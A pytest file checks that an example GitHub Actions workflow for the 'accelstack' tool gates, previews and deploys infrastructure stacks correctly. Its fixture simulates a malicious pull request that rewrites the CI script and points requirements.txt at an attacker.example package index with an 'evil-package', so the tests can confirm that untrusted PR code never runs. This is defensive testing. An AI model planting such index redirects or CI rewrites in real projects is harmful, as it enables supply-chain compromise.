"""The GitHub Actions example runs unchanged in an `accelstack init` project: each job's shell
steps run end to end, offline, in the shell GitHub gives them, in the checkouts its
`actions/checkout` steps make (the base branch at the root, the pull request as data in pr/),
with fake `python -m venv`/pip, `gh` and `pulumi` on PATH. The gate (`check --strict`, the
comment), the approved preview and the deploy on merge (new stacks created, a first push and
a force-push) are each run; a pull request that edits the CI script or requirements.txt runs
none of its own code, and a job that runs accelstack without installing it, or a pipe that
hides a failure, fails here."""

from __future__ import annotations

import json
import re
import stat
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml

from accelstack.cli import main
from accelstack.plan import fake_ami
from accelstack.preflight.amis import write_pins
from accelstack.resolve import resolve
from accelstack.spec import load_spec

from ..conftest import ROOT
from ..helpers_git import GIT_ENV, git
from ..helpers_program import fill

WORKFLOW = ROOT / "examples" / "ci" / "github-actions.yml"
NO_COMMIT = "0" * 40


def _exe(path: Path, text: str) -> None:
    path.write_text(text, encoding="utf-8")
    path.chmod(path.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)


def _fakes(bin_dir: Path, log: Path) -> None:
    """`python -m venv DIR` makes DIR/bin/pip (records its args and where it ran) and
    DIR/bin/accelstack (this checkout's accelstack); anything else is the real Python. gh and
    pulumi record their args and directory; `pulumi stack select` without --create fails for
    a stack not in $FAKE_PULUMI_STACKS."""
    bin_dir.mkdir(exist_ok=True)
    accelstack = f'#!/bin/sh\nPYTHONPATH="{ROOT}" exec "{sys.executable}" -m accelstack.cli "$@"\n'
    _exe(
        bin_dir / "python",
        "#!/bin/bash\nset -e\n"
        'if [ "$1" = -m ] && [ "$2" = venv ]; then\n'
        '  mkdir -p "$3/bin"\n'
        f'  printf \'#!/bin/sh\\necho pip "$*" "(in $PWD)" >> {log}\\n\' > "$3/bin/pip"\n'
        f"  cat > \"$3/bin/accelstack\" <<'EOF'\n{accelstack}EOF\n"
        '  chmod +x "$3/bin/pip" "$3/bin/accelstack"\n  exit 0\nfi\n'
        'exec /usr/bin/python3 "$@"\n',
    )
    _exe(bin_dir / "gh", f'#!/bin/sh\necho gh "$@" >> {log}\n')
    _exe(
        bin_dir / "pulumi",
        f'#!/bin/bash\necho pulumi "$@" "(in ${{PWD##*/}})" >> {log}\n'
        'if [ "$1 $2" = "stack select" ] && [[ " $* " != *" --create "* ]]; then\n'
        '  [[ " ${FAKE_PULUMI_STACKS:-} " == *" $4 "* ]] || exit 255\nfi\n',
    )


def _pin_and_fill(project: Path, stack: str) -> None:
    """What the user does before the first merge: fill the placeholders, pin the AMIs (the
    plan's fake ids here: `accelstack amis pin` needs AWS)."""
    spec = project / "stacks" / f"{stack}.yaml"
    spec.write_text(fill(spec.read_text(encoding="utf-8")), encoding="utf-8")
    resolved = resolve(load_spec(spec))
    write_pins(project / f"Pulumi.{stack}.yaml", {p: fake_ami(p) for p in resolved.ami_parameters})


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An `init` project on main (placeholders filled, AMIs pinned); branch pr runs three
    nodes (a comment-worthy change) and adds the stack `staging` of the same spec; branch evil
    also rewrites the CI script and requirements.txt to run its own code."""
    root = tmp_path_factory.mktemp("initci") / "proj"
    assert main(["init", str(root), "--from", "trn1-finetune"]) == 0
    _pin_and_fill(root, "trn1-finetune")
    git(root, "init", "-q", "-b", "main")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "init")
    git(root, "checkout", "-qb", "pr")
    spec = root / "stacks" / "trn1-finetune.yaml"
    text = spec.read_text().replace("max_hourly_usd: 5", "max_hourly_usd: 50")
    text = text.replace("max_monthly_usd: 3500", "max_monthly_usd: 9000")
    spec.write_text(text.replace("    nodes: 1\n", "    nodes: 3\n"))
    staging = (root / "Pulumi.trn1-finetune.yaml").read_text()
    (root / "Pulumi.staging.yaml").write_text(staging)
    git(root, "add", "-A")
    git(root, "commit", "-qm", "three nodes, and a staging stack")
    git(root, "checkout", "-qb", "evil", "main")
    marker = "${HOME}/pr-code-ran"
    (root / "ci" / "accelstack-ci.sh").write_text(f"#!/bin/sh\ntouch {marker}\n")
    with (root / "requirements.txt").open("a") as f:
        f.write("--index-url https://attacker.example/simple\nevil-package\n")
    spec.write_text(spec.read_text().replace("    nodes: 1\n", "    nodes: 2\n"))
    git(root, "commit", "-qam", "run my own code in CI")
    git(root, "checkout", "-q", "main")
    return root


def _clone(source: Path, into: Path, ref: str) -> Path:
    """What `actions/checkout` leaves: a clone at `ref` (with every branch, fetch-depth 0)."""
    subprocess.run(["git", "clone", "-q", str(source), str(into)], check=True)
    git(into, "checkout", "-q", "--detach", git(source, "rev-parse", ref).strip())
    return into


def _pr_checkouts(project: Path, tmp: Path, head: str) -> Path:
    """The review and preview jobs' two checkouts: the base branch, and the PR in pr/."""
    base = _clone(project, tmp / "base", "main")
    _clone(project, base / "pr", head)
    return base


def _expr(text: str, values: dict[str, str]) -> str:
    return re.sub(r"\$\{\{\s*([^}]+?)\s*\}\}", lambda m: values.get(m.group(1), "x"), text)


def _shell(workflow: dict[str, Any], job: dict[str, Any]) -> list[str]:
    """The shell GitHub runs a `run:` step in: `shell: bash` is `bash -eo pipefail`; the
    default (no shell named) is `bash -e`, where a pipe hides its failures."""
    named = (job.get("defaults") or workflow.get("defaults") or {}).get("run", {}).get("shell")
    return (
        ["bash", "--noprofile", "--norc", "-eo", "pipefail"] if named == "bash" else ["bash", "-e"]
    )


def _after_failure(step: dict[str, Any]) -> bool:
    """A step whose `if:` runs it after an earlier step failed (`!cancelled()`, `always()`)."""
    cond = str(step.get("if", ""))
    return "cancelled()" in cond or "always()" in cond


@dataclass
class Run:
    rc: int
    outputs: dict[str, str]
    log: str


def run_job(
    root: Path,
    name: str,
    values: dict[str, str],
    tmp: Path,
    skip: tuple[str, ...] = (),
) -> Run:
    """Run a job's `run:` steps in order (actions skipped), each in its working-directory."""
    workflow = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))
    job = workflow["jobs"][name]
    out_file, path_file, log = tmp / f"{name}.out", tmp / f"{name}.path", tmp / f"{name}.log"
    for f in (out_file, path_file, log):
        f.write_text("")
    bin_dir = tmp / f"{name}-bin"
    _fakes(bin_dir, log)
    base_env = {
        "HOME": str(tmp),
        "PATH": f"{bin_dir}:/usr/bin:/bin",
        "GITHUB_OUTPUT": str(out_file),
        "GITHUB_PATH": str(path_file),
        "GITHUB_REPOSITORY": "org/repo",
        **GIT_ENV,
        **{k: _expr(str(v), values) for k, v in (workflow.get("env") or {}).items()},
        **{k: _expr(str(v), values) for k, v in (job.get("env") or {}).items()},
        **{k: v for k, v in values.items() if k.isupper()},
    }
    rc = 0
    for step in job["steps"]:
        if "run" not in step or step.get("name") in skip or (rc and not _after_failure(step)):
            continue
        env = {**base_env, **{k: _expr(str(v), values) for k, v in (step.get("env") or {}).items()}}
        extra = [p for p in path_file.read_text().splitlines() if p]
        env["PATH"] = ":".join([*reversed(extra), env["PATH"]])
        done = subprocess.run(
            [*_shell(workflow, job), "-c", _expr(step["run"], values)],
            cwd=root / step.get("working-directory", "."),
            env=env,
            capture_output=True,
            text=True,
            check=False,
        )
        with log.open("a") as f:
            f.write(f"step {step.get('name')}: rc {done.returncode}\n{done.stdout}{done.stderr}")
        rc = rc or done.returncode
    outputs = dict(line.partition("=")[::2] for line in out_file.read_text().splitlines())
    return Run(rc, outputs, log.read_text())


def _pr_values(project: Path, head: str) -> dict[str, str]:
    return {
        "github.event.pull_request.base.sha": git(project, "rev-parse", "main").strip(),
        "github.event.pull_request.head.sha": git(project, "rev-parse", head).strip(),
        "github.event.pull_request.number": "7",
        "github.repository": "org/repo",
        "github.token": "t",
    }


@pytest.mark.slow  # runs the gate's shell steps in an init project (subprocesses)
def test_the_gate_checks_strictly_and_comments_from_trusted_code(
    project: Path, tmp_path: Path
) -> None:
    base = _pr_checkouts(project, tmp_path, "pr")
    run = run_job(base, "review", _pr_values(project, "pr"), tmp_path)
    assert run.rc == 0, run.log
    assert json.loads(run.outputs["names"]) == ["staging", "trn1-finetune"]
    assert f"pip install -r requirements.txt (in {base})" in run.log  # the base branch's
    assert "gh pr comment 7 --body-file accelstack-diff.md" in run.log, run.log
    comment = (base / "accelstack-diff.md").read_text()
    assert "trn1-finetune" in comment
    assert "2 of 2 specs passed" in run.log  # `check --strict`: pins and placeholders held


@pytest.mark.slow
def test_a_pull_request_that_rewrites_the_ci_runs_none_of_its_code(
    project: Path, tmp_path: Path
) -> None:
    base = _pr_checkouts(project, tmp_path, "evil")
    run = run_job(base, "review", _pr_values(project, "evil"), tmp_path)
    assert not (tmp_path / "pr-code-ran").exists()  # its ci/accelstack-ci.sh never ran
    pip = [line for line in run.log.splitlines() if line.startswith("pip ")]
    assert pip == [f"pip install -r requirements.txt (in {base})"]  # never the PR's
    assert "evil-package" not in (base / "requirements.txt").read_text()
    assert "gh pr comment 7" in run.log  # the gate still judged and reported the change
    # the comment names each program change, and the gate fails until a reviewer accepts it
    assert "ci/accelstack-ci.sh changed" in run.log and "requirements.txt changed" in run.log
    assert "NOT ACCEPTED" in run.log
    assert "step Check changed stacks: rc 1" in run.log and run.rc == 1, run.log


@pytest.mark.slow
def test_a_failing_check_still_posts_the_comment_and_fails_the_gate(
    project: Path, tmp_path: Path
) -> None:
    git(project, "checkout", "-qb", "over", "pr")
    try:
        spec = project / "stacks" / "trn1-finetune.yaml"
        spec.write_text(spec.read_text().replace("max_hourly_usd: 50", "max_hourly_usd: 1"))
        git(project, "commit", "-qam", "over budget")
    finally:
        git(project, "checkout", "-q", "main")
    base = _pr_checkouts(project, tmp_path, "over")
    run = run_job(base, "review", _pr_values(project, "over"), tmp_path)
    assert run.rc == 1, run.log
    assert "gh pr comment 7 --body-file accelstack-diff.md" in run.log
    assert "step Check changed stacks: rc 1" in run.log


@pytest.mark.slow
def test_the_preview_runs_the_pr_program_with_the_base_policy_pack(
    project: Path, tmp_path: Path
) -> None:
    base = _pr_checkouts(project, tmp_path, "pr")
    values = {**_pr_values(project, "pr"), **DEPLOY, "matrix.stack": "trn1-finetune"}
    values["FAKE_PULUMI_STACKS"] = "trn1-finetune"
    run = run_job(base, "preview", values, tmp_path)
    assert run.rc == 0, run.log
    assert (
        "pulumi preview --stack trn1-finetune --policy-pack ../policies --non-interactive (in pr)"
        in run.log
    )
    values["matrix.stack"] = "staging"  # not created yet: said, not previewed
    run = run_job(base, "preview", values, tmp_path)
    assert run.rc == 0 and "stack staging does not exist yet" in run.log, run.log
    assert "pulumi preview" not in run.log


def _deploy(project: Path, tmp: Path, before: str, ref: str = "pr") -> tuple[Run, Path]:
    checkout = _clone(project, tmp / "main", ref)
    run = run_job(checkout, "changed-on-main", {"github.event.before": before}, tmp)
    return run, checkout


DEPLOY = {"vars.PULUMI_BACKEND_URL": "s3://state"}


@pytest.mark.slow  # runs the deploy jobs' shell steps in an init project (subprocesses)
def test_the_merge_deploys_each_changed_stack_creating_new_ones(
    project: Path, tmp_path: Path
) -> None:
    run, checkout = _deploy(project, tmp_path, git(project, "rev-parse", "main").strip())
    assert run.rc == 0, run.log
    assert json.loads(run.outputs["names"]) == ["staging", "trn1-finetune"]
    for stack in ("staging", "trn1-finetune"):
        deploy = run_job(checkout, "deploy", {**DEPLOY, "matrix.stack": stack}, tmp_path)
        assert deploy.rc == 0, deploy.log
        assert "1 of 1 specs passed" in deploy.log  # check --strict of that stack first
        calls = [line for line in deploy.log.splitlines() if line.startswith("pulumi ")]
        assert calls == [
            "pulumi login s3://state (in main)",
            f"pulumi stack select --create --stack {stack} --non-interactive (in main)",
            f"pulumi up --stack {stack} --policy-pack policies --yes --non-interactive (in main)",
        ]


@pytest.mark.slow
@pytest.mark.parametrize("before", [NO_COMMIT, "f" * 40], ids=["first-push", "force-push"])
def test_a_first_push_or_a_force_push_deploys_every_stack(
    before: str, project: Path, tmp_path: Path
) -> None:
    run, _ = _deploy(project, tmp_path, before, ref="main")
    assert run.rc == 0, run.log
    assert json.loads(run.outputs["names"]) == ["trn1-finetune"]  # every stack main has
    assert "every stack" in run.log


@pytest.mark.slow
def test_a_job_that_cannot_list_its_stacks_fails(project: Path, tmp_path: Path) -> None:
    """Without its install step the stack list fails, and the job fails with it (not an empty
    matrix and a green run)."""
    workflow = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))
    installs = [
        s["name"] for s in workflow["jobs"]["changed-on-main"]["steps"] if "pip install" in str(s)
    ]
    assert installs, "the job installs accelstack"
    checkout = _clone(project, tmp_path / "main", "pr")
    values = {"github.event.before": git(project, "rev-parse", "main").strip()}
    run = run_job(checkout, "changed-on-main", values, tmp_path, skip=tuple(installs))
    assert run.rc != 0 and "names" not in run.outputs


def test_every_job_that_runs_accelstack_installs_it_first() -> None:
    workflow = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))
    for name, job in workflow["jobs"].items():
        runs = [str(s.get("run", "")) for s in job["steps"]]
        uses = [i for i, r in enumerate(runs) if "accelstack" in r and "pip install" not in r]
        installed = [i for i, r in enumerate(runs) if "pip install -r requirements.txt" in r]
        assert not uses or (installed and installed[0] < min(uses)), name
